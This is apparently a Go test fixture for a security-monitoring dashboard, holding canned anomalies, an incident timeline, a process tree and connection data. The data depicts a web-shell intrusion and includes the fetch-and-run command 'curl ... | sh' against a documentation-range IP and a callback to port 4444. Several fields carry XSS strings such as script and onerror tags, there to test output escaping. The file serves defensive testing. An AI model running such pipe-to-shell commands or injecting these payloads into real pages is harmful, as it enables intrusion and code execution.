package ui

import (
	"context"
	"fmt"
	"math"
	"strings"
	"sync"
	"time"
)

// fakeSource implements every source interface with canned, partly hostile
// data.
type fakeSource struct {
	mu     sync.Mutex
	events map[string][]Event // newest first
	start  time.Time
}

func newFakeSource() *fakeSource {
	return &fakeSource{events: map[string][]Event{}, start: time.Now()}
}

func (f *fakeSource) add(e Event) {
	f.mu.Lock()
	defer f.mu.Unlock()
	k := e["kind"].(string)
	f.events[k] = append([]Event{e}, f.events[k]...)
}

func (f *fakeSource) RecentEvents(_ context.Context, kind string, n int) ([]Event, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	ev := f.events[kind]
	return ev[:min(n, len(ev))], nil
}

var fakeNow = time.Date(2026, 11, 24, 16, 30, 0, 0, time.UTC)

func fakeAnomalies() []Anomaly {
	return []Anomaly{
		{ID: "a3", TS: fakeNow.Add(-1 * time.Minute), Host: "web-1", Container: "nginx-7f9c", Process: "sh", PID: 4242, Severity: "critical", Score: 0.993,
			Model: "exec-seq", Kind: "exec", Summary: "nginx worker spawned a shell running curl | sh", IncidentID: "inc-1",
			SQL: "SELECT ts, pid, ppid, comm, argv FROM vigil.exec_events WHERE host = 'web-1' AND pid = 4242 ORDER BY ts"},
		{ID: "a2", TS: fakeNow.Add(-2 * time.Minute), Host: "web-1", Container: "nginx-7f9c", Process: "curl", PID: 4243, Severity: "high", Score: 0.91,
			Model: "conn-novelty", Kind: "connect", Summary: "first connection from this container to 203.0.113.7:4444", IncidentID: "inc-1",
			SQL: "SELECT * FROM vigil.connect_events WHERE pid = 4243"},
		{ID: "a1", TS: fakeNow.Add(-9 * time.Minute), Host: "db-2", Process: "postgres", PID: 811, Severity: "medium", Score: 0.71,
			Model: "syscall-rate", Summary: "fsync rate 6σ above this hour's baseline"},
		{ID: "a0", TS: fakeNow.Add(-15 * time.Minute), Host: "db-2", Process: "<b>cron</b>", PID: 77, Severity: "low", Score: 0.55,
			Model: "exec-seq", Summary: "rare argv for cron: <script>alert(2)</script>"},
	}
}

func (f *fakeSource) Anomalies(_ context.Context, flt AnomalyFilter) ([]Anomaly, error) {
	var out []Anomaly
	rank := func(s string) int {
		for i, x := range Severities {
			if x == s {
				return i
			}
		}
		return -1
	}
	for _, a := range fakeAnomalies() {
		if flt.Host != "" && !strings.Contains(a.Host, flt.Host) ||
			flt.Container != "" && !strings.Contains(a.Container, flt.Container) ||
			flt.Process != "" && !strings.Contains(a.Process, flt.Process) ||
			flt.Severity != "" && rank(a.Severity) < rank(flt.Severity) {
			continue
		}
		out = append(out, a)
	}
	return out, nil
}

var fakeIncident = Incident{
	ID: "inc-1", Title: "Web shell on web-1: nginx spawned sh → curl → outbound 4444", Severity: "critical", State: "open",
	Opened: fakeNow.Add(-2 * time.Minute), Updated: fakeNow.Add(-1 * time.Minute), Hosts: []string{"web-1"}, Anomalies: 2,
}

func (f *fakeSource) Incidents(context.Context, IncidentFilter) ([]Incident, error) {
	old := Incident{ID: "inc-0", Title: "fsync storm on db-2", Severity: "medium", State: "resolved",
		Opened: fakeNow.Add(-3 * time.Hour), Updated: fakeNow.Add(-2 * time.Hour), Hosts: []string{"db-2"}, Anomalies: 5}
	return []Incident{fakeIncident, old}, nil
}

func (f *fakeSource) Incident(_ context.Context, id string) (IncidentDetail, error) {
	if id != "inc-1" {
		return IncidentDetail{}, fmt.Errorf("incident %q: %w", id, ErrNotFound)
	}
	t := fakeNow.Add(-2 * time.Minute)
	return IncidentDetail{
		Incident: fakeIncident,
		Timeline: []TimelineEntry{
			{TS: t, Kind: "exec", Host: "web-1", Text: "nginx (pid 4100) exec sh -c 'curl -s http://203.0.113.7/x | sh'"},
			{TS: t.Add(80 * time.Millisecond), Kind: "exec", Host: "web-1", Text: "sh (pid 4242) exec curl -s http://203.0.113.7/x"},
			{TS: t.Add(300 * time.Millisecond), Kind: "connect", Host: "web-1", Text: "curl (pid 4243) connect 203.0.113.7:80"},
			{TS: t.Add(2 * time.Second), Kind: "connect", Host: "web-1", Text: "sh (pid 4250) connect 203.0.113.7:4444"},
			{TS: t.Add(time.Minute), Kind: "anomaly", Host: "web-1", Text: "critical: nginx worker spawned a shell <img src=x onerror=alert(3)>"},
		},
		ProcessTree: []Process{
			{PID: 1, PPID: 0, Comm: "systemd", Argv: []string{"/sbin/init"}},
			{PID: 4000, PPID: 1, Comm: "nginx", Argv: []string{"nginx", "-g", "daemon off;"}},
			{PID: 4100, PPID: 4000, Comm: "nginx", Argv: []string{"nginx: worker process"}},
			{PID: 4242, PPID: 4100, Comm: "sh", Argv: []string{"sh", "-c", "curl -s http://203.0.113.7/x | sh"}, Flagged: true},
			{PID: 4243, PPID: 4242, Comm: "curl", Argv: []string{"curl", "-s", "http://203.0.113.7/x"}, Flagged: true},
			{PID: 4250, PPID: 4242, Comm: "sh", Argv: []string{"sh"}},
			// Run from a subshell of 4242 (pid 4255), which has no node.
			{PID: 4260, PPID: 4255, Launcher: 4242, Comm: "base64", Argv: []string{"base64", "-d"}},
			// bash -c ran id, then its last command in place: id is bash's.
			{PID: 4270, PPID: 4242, Comm: "bash", Argv: []string{"bash", "-c", "id; sleep 1"}, Start: t.Add(time.Second)},
			{PID: 4271, PPID: 4270, Comm: "id", Argv: []string{"id"}, Start: t.Add(2 * time.Second)},
			{PID: 4270, PPID: 4242, Comm: "sleep", Argv: []string{"sleep", "1"}, Start: t.Add(3 * time.Second)},
		},
		Connections: []Connection{
			{TS: t.Add(300 * time.Millisecond), PID: 4243, Comm: "curl", Proto: "tcp", Src: "10.0.0.5:51234", Dst: "203.0.113.7:80", Bytes: 5120},
			{TS: t.Add(2 * time.Second), PID: 4250, Comm: "sh", Proto: "tcp", Src: "10.0.0.5:51240", Dst: "203.0.113.7:4444", Bytes: 88231},
		},
		AnomalyList: fakeAnomalies()[:2],
		SQL: map[string]string{
			SectionTimeline:    "SELECT ts, kind, text FROM vigil.incident_timeline WHERE incident_id = 'inc-1' ORDER BY ts",
			SectionProcessTree: "SELECT pid, ppid, comm, argv FROM vigil.exec_events WHERE host = 'web-1' AND ts BETWEEN now() - INTERVAL 10 MINUTE AND now()",
			SectionConnections: "SELECT ts, pid, comm, daddr, dport, bytes FROM vigil.connect_events WHERE pid IN (4243, 4250)",
			SectionAnomalies:   "SELECT * FROM vigil.anomalies WHERE incident_id = 'inc-1' ORDER BY ts DESC",
		},
	}, nil
}

func (f *fakeSource) Ask(_ context.Context, q string) (Answer, error) {
	return Answer{
		Text:    "3 processes made outbound connections in the last hour; curl and sh on web-1 went to 203.0.113.7, which no other host contacts.",
		SQL:     "SELECT host, comm, count() AS n, uniqExact(daddr) AS dests\nFROM vigil.connect_events\nWHERE ts > now() - INTERVAL 1 HOUR\nGROUP BY host, comm\nORDER BY n DESC\nLIMIT 10",
		Columns: []string{"host", "comm", "n", "dests"},
		Rows:    [][]any{{"web-1", "nginx", 1822, 3}, {"web-1", "curl", 1, 1}, {"web-1", "<i>sh</i>", 1, 1}},
	}, nil
}

func (f *fakeSource) Health(context.Context) (Health, error) {
	s := time.Since(f.start).Seconds()
	w := func(base, amp, period float64) float64 { return math.Round(base + amp*math.Sin(s*2*math.Pi/period)) }
	return Health{
		TS:         time.Now().UTC(),
		ClickHouse: ComponentHealth{State: StateOK, Detail: "embedded, 12 tables"},
		LLM:        ComponentHealth{State: StateDegraded, Detail: "offline summarizer"},
		Models:     ComponentHealth{State: StateLearning, Detail: "new binaries on this host are learned silently until 04:21 UTC; 42 series scored"},
		Drops:      uint64(s * 3),
		IngestLag:  0.4 + 0.2*math.Sin(s),
		ProbeRates: map[string]float64{"exec": w(40, 15, 3), "connect": w(120, 40, 5), "syscall_counts": w(300, 60, 7)},
		HostRates:  map[string]float64{"web-1": w(310, 50, 4), "db-2": w(150, 30, 6)},
	}, nil
}
